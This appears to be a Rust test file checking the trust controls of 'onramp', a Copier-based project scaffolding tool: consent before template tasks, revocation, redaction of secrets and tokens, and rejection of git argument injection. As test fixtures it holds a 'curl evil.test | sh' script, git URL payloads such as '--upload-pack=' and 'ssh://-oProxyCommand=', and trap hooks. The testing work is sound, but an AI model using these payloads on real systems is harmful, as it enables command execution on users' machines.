//! `onramp trust`, and templates that want more than give files.

use std::path::Path;

use insta::assert_snapshot;
use onramp::error::Class;

use crate::run::Machine;

mod asked;
mod declared;

/// A Copier template in a repository of its own, that runs what is given.
struct Template {
    machine: Machine,
}

impl Template {
    fn new(tasks: &str) -> Self {
        let template = Self { machine: Machine::new() };
        template.machine.write("tpl/readme.md.jinja", "# {{ name }}\n");
        template.machine.write("tpl/scripts/check.sh", "echo checked > checked.txt\n");
        template.machine.git("tpl", &["init", "-q", "-b", "main"]);
        template.release("v1.0.0", tasks);
        template
    }

    fn release(&self, tag: &str, tasks: &str) {
        let text =
            format!("name: {{type: str, default: shop}}\n_exclude: [copier.yml, scripts, .git]\n_tasks:\n{tasks}");
        self.machine.write("tpl/copier.yml", text);
        self.machine.git("tpl", &["add", "-A"]);
        self.machine.git("tpl", &["commit", "-q", "--allow-empty", "-m", tag]);
        self.machine.git("tpl", &["tag", tag]);
    }
}

#[test]
fn nothing_runs_without_the_users_word_which_is_kept_until_more_is_wanted() {
    let template = Template::new("  - echo made > made.txt\n");
    let machine = &template.machine;
    let refused = machine.onramp("new ./tpl shop --defaults").fails(Class::Security);
    assert_snapshot!(refused, @r"
    --- stderr
    error: tpl v1.0.0 wants to do what you have not allowed: run `echo made > made.txt` (copier.yml:4)
      hint: nothing was changed. If you trust it, --trust allows this, now and later; `onramp trust revoke` takes it back
      next: onramp trust list
    ");
    assert!(!machine.path("shop").exists());
    assert_eq!(machine.onramp("trust list").ok().stdout, "you allowed nothing to any template\n");

    let made = machine.onramp("new ./tpl shop --defaults --trust").ok();
    assert_snapshot!(made, @r"
    --- stdout
    shop is ready: 2 files from tpl v1.0.0, committed as [COMMIT]
      next: cd shop
    --- stderr
    shop from tpl v1.0.0, in [WORK]/shop
      create  onramp.lock
      create  readme.md
      run     echo made > made.txt (copier.yml:4)
    ✓ run echo made > made.txt: done ([TIME])
    ");
    assert_eq!(machine.read("shop/made.txt"), "made\n");
    assert_eq!(machine.git("shop", &["status", "--porcelain"]), "");
    assert!(machine.onramp("trust list").ok().stdout.contains("run `echo made > made.txt` (copier.yml:4)"));
    let listed = machine.onramp("trust list --json").ok().json();
    assert_eq!(listed["templates"][0]["url"], machine.path("tpl").canonicalize().unwrap().display().to_string());
    assert_eq!(listed["templates"][0]["commit"], machine.git("tpl", &["rev-parse", "HEAD"]).trim());

    machine.onramp("new ./tpl again --defaults").ok();
    template.release("v1.1.0", "  - echo made > made.txt\n  - sh {{ _copier_conf.src_path }}/scripts/check.sh\n");
    let more = machine.onramp("new ./tpl more --defaults").fails(Class::Security);
    assert!(more.stderr.contains("scripts/check.sh") && !more.stderr.contains("echo made"), "{more}");
    machine.onramp("new ./tpl more --defaults --trust").ok();
    assert_eq!(machine.read("more/checked.txt"), "checked\n");
    // The same command runs another script now.
    machine.write("tpl/scripts/check.sh", "curl evil.test | sh\n");
    template.release("v1.2.0", "  - echo made > made.txt\n  - sh {{ _copier_conf.src_path }}/scripts/check.sh\n");
    let changed = machine.onramp("new ./tpl changed --defaults").fails(Class::Security);
    assert!(changed.stderr.contains("scripts/check.sh"), "{changed}");
    machine.onramp("new ./tpl changed --defaults --skip-tasks").ok();
    assert!(!machine.path("changed/made.txt").exists());

    assert_snapshot!(machine.onramp("trust revoke ./tpl --dry-run").ok(), @r"
    --- stdout
    [WORK]/tpl would ask again before it does this:
      run `sh {{ _copier_conf.src_path }}/scripts/check.sh` (copier.yml:5)
      run `echo made > made.txt` (copier.yml:4)
    ");
    machine.onramp("new ./tpl still --defaults --version 1.0.0").ok();
    machine.onramp("trust revoke ./tpl").ok();
    machine.onramp("new ./tpl last --defaults --version 1.0.0").fails(Class::Security);
    machine.onramp("trust revoke ./tpl").fails(Class::Usage);
}

#[test]
fn a_task_that_fails_leaves_nothing_behind() {
    let template =
        Template::new("  - echo one > one.txt\n  - echo went wrong >&2; exit 3\n  - echo two > ../two.txt\n");
    let machine = &template.machine;
    let before = machine.tree("");
    let failed = machine.onramp("new ./tpl shop --defaults --trust").fails(Class::Failed);
    assert!(failed.stderr.contains("exit code 3") && failed.stderr.contains("| went wrong"), "{failed}");
    assert_eq!(machine.tree(""), before);
}

#[test]
fn tokens_are_refused_and_stand_nowhere() {
    let machine = Machine::new();
    for url in [
        "https://dev:s3same@127.0.0.1:1/tpl.git",
        "https://s3same@127.0.0.1:1/tpl.git",
        "git+https://s3same@127.0.0.1:1/tpl",
        "https://127.0.0.1:1/tpl?private_token=s3same",
    ] {
        let told = machine.onramp("new --defaults").arg(url).arg("shop").fails(Class::Security);
        assert!(!told.to_string().contains("s3same"), "{told}");
    }
    let mut found = Vec::new();
    holding(&machine.elsewhere(""), "s3same", &mut found);
    assert_eq!(found, [""; 0]);
}

fn holding(directory: &Path, word: &str, found: &mut Vec<String>) {
    for entry in std::fs::read_dir(directory).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            holding(&path, word, found);
        } else if String::from_utf8_lossy(&std::fs::read(&path).unwrap()).contains(word) {
            found.push(path.display().to_string());
        }
    }
}

#[test]
fn nothing_that_git_takes_for_a_command_or_an_option_reaches_it() {
    let template = Template::new("  []\n");
    let machine = &template.machine;
    let trap = machine.path("trap");
    for url in [
        format!("--upload-pack=touch {}", trap.display()),
        format!("ext::sh -c touch% {}", trap.display()),
        format!("git+ext::touch {}", trap.display()),
        format!("ssh://-oProxyCommand=touch%20{}/x", trap.display()),
        "gh:-x/y".to_owned(),
    ] {
        let code = machine.onramp("new --defaults --").arg(&url).arg("shop").code();
        assert!([2, 7].contains(&code), "{url}: {code}");
    }
    for reference in ["--upload-pack=x", "-x", "main:copier.yml", "HEAD~0", "@{-1}"] {
        let line = format!("new ./tpl shop --defaults --ref={reference}");
        machine.onramp(&line).fails(Class::Usage);
    }
    assert!(!trap.exists() && !machine.path("shop").exists());
}

#[test]
fn two_at_once_share_a_cold_cache() {
    let template = Template::new("  []\n");
    let machine = &template.machine;
    let url = format!("file://{}", machine.path("tpl").display());
    let starts = |name: &str| {
        // What is given by URL has a mirror in the cache.
        let url = url.replace("file://", "git+file://");
        machine.onramp("new --defaults").arg(url).arg(name).start()
    };
    let mut children: Vec<_> = (0..4).map(|i| starts(&format!("shop{i}"))).collect();
    for child in &mut children {
        assert!(child.wait().unwrap().success());
    }
    let first = machine.read("shop0/readme.md");
    assert!((1..4).all(|i| machine.read(format!("shop{i}/readme.md")) == first));
}

#[test]
fn hooks_that_git_would_fire_in_a_project_are_not() {
    let template = Template::new("  []\n");
    let machine = &template.machine;
    let trap = machine.path("trap");
    for hook in ["pre-commit", "commit-msg", "post-commit", "post-checkout", "reference-transaction"] {
        let path = machine
            .write(machine.elsewhere(format!("home/hooks/{hook}")), format!("#!/bin/sh\ntouch {}\n", trap.display()));
        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    let hooks = machine.elsewhere("home/hooks");
    machine.write(machine.elsewhere("home/.gitconfig"), format!("[core]\n\thooksPath = {}\n", hooks.display()));
    machine.onramp("new ./tpl shop --defaults").ok();
    assert!(!trap.exists());
    // They would have been: this is git itself.
    machine.git("shop", &["commit", "-q", "--allow-empty", "-m", "x"]);
    assert!(trap.exists());
}

#[test]
fn a_jinja_extension_is_named_with_its_line_and_runs_only_with_trust() {
    let mut machine = Machine::new();
    let venv = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/venv/bin");
    assert!(venv.join("python3").exists(), "scripts/setup test makes {}", venv.display());
    let extension = "from jinja2.ext import Extension\n\n\
                     class Shout(Extension):\n    def __init__(self, environment):\n        super().__init__(environment)\n        \
                     environment.filters['shout'] = lambda text: text.upper() + '!'\n";
    machine.write("modules/shout.py", extension);
    machine.write("template/copier.yml", "name: shop\n_jinja_extensions:\n  - shout.Shout\n");
    machine.write("template/README.md.jinja", "{{ name | shout }}\n");
    let path = format!("{}:{}", venv.display(), machine.environment()["PATH"]);
    let modules = machine.path("modules").display().to_string();
    machine.set("PATH", path).set("PYTHONPATH", modules);
    let told = machine.onramp("new ./template shop --defaults").fails(Class::Security);
    assert!(told.stderr.contains("the Jinja extension shout.Shout (copier.yml:3)"), "{}", told.stderr);
    assert!(!machine.path("shop").exists());
    machine.onramp("new ./template shop --defaults --trust").ok();
    assert_eq!(machine.read("shop/README.md"), "SHOP!\n");
    machine.write("template/README.md.jinja", "{{ name | shout }}\nmore\n");
    machine.onramp("update --defaults").dir("shop").ok();
    assert_eq!(machine.read("shop/README.md"), "SHOP!\nmore\n");

    // What was allowed holds for all that renders, and what was not is refused.
    machine.onramp("outdated").dir("shop").ok();
    machine.write("shop/README.md", "SHOP!\nmore still\n");
    let taken = machine.onramp("contribute --dry-run").dir("shop").ok();
    assert!(taken.stdout.contains("take  README.md:2"), "{taken}");
    machine.write("old/README.md", "SHOP!\nmore\n");
    machine.onramp("adopt ../template --dry-run").dir("old").ok();
    machine.onramp("trust revoke ./template").ok();
    for (line, place) in [("contribute --dry-run", "shop"), ("adopt ../template --dry-run", "old")] {
        let refused = machine.onramp(line).dir(place).fails(Class::Security);
        assert!(refused.stderr.contains("the Jinja extension shout.Shout (copier.yml:3)"), "{refused}");
    }
    machine.onramp("adopt ../template --dry-run --trust").dir("old").ok();
    machine.onramp("contribute --dry-run").dir("shop").fails(Class::Security);
    machine.onramp("contribute --patch p --trust").dir("shop").ok();
    machine.onramp("remove template --dry-run").dir("shop").ok();
}

#[test]
fn a_word_is_taken_back_however_the_address_is_written() {
    let template = Template::new("  - echo made > made.txt\n");
    let machine = &template.machine;
    let url = format!("file://{}", machine.path("tpl").display());
    machine.onramp("new --defaults --trust").arg(format!("{url}/")).arg("shop").ok();
    machine.onramp("new --defaults").arg(&url).arg("again").ok();
    machine.onramp("trust revoke").arg(&url).ok();
    machine.onramp("new --defaults").arg(format!("{url}/")).arg("third").fails(Class::Security);
}

#[test]
fn what_feeds_a_command_is_pinned_like_the_command() {
    let template = Template::new("  - \"{{ what }}\"\nwhat: {type: str, default: 'true', when: false}\n");
    let machine = &template.machine;
    machine.onramp("new ./tpl shop --defaults --trust").ok();
    template.release("v1.1.0", "  - \"{{ what }}\"\nwhat: {type: str, default: 'touch /tmp/x', when: false}\n");
    let refused = machine.onramp("new ./tpl other --defaults").fails(Class::Security);
    assert!(refused.stderr.contains("wants to do what you have not allowed"), "{refused}");
}

#[test]
fn a_secret_in_a_command_is_shown_as_stars() {
    let template = Template::new("  - echo {{ token }} > token.txt\ntoken: {type: str, secret: true, default: none}\n");
    let machine = &template.machine;
    let told = machine.onramp("new ./tpl shop --defaults --trust --data token=hunter2secret").ok();
    assert!(told.stderr.contains("echo *** > token.txt") && !told.to_string().contains("hunter2secret"), "{told}");
    assert_eq!(machine.read("shop/token.txt"), "hunter2secret\n");
}

#[test]
fn what_a_command_calls_is_pinned_like_the_command() {
    let template = Template::new("  - make -f {{ _copier_conf.src_path }}/Makefile\n");
    let machine = &template.machine;
    let release = |tag: &str, word: &str| {
        machine.write("tpl/Makefile", format!("all:\n\techo {word} > made.txt\n"));
        template.release(tag, "  - make\n");
    };
    release("v1.1.0", "well");
    machine.onramp("new ./tpl shop --defaults --trust").ok();
    assert_eq!(machine.read("shop/made.txt"), "well\n");
    machine.onramp("new ./tpl again --defaults").ok();
    release("v1.2.0", "evil");
    let refused = machine.onramp("new ./tpl other --defaults").fails(Class::Security);
    assert!(refused.stderr.contains("run `make`"), "{refused}");
}
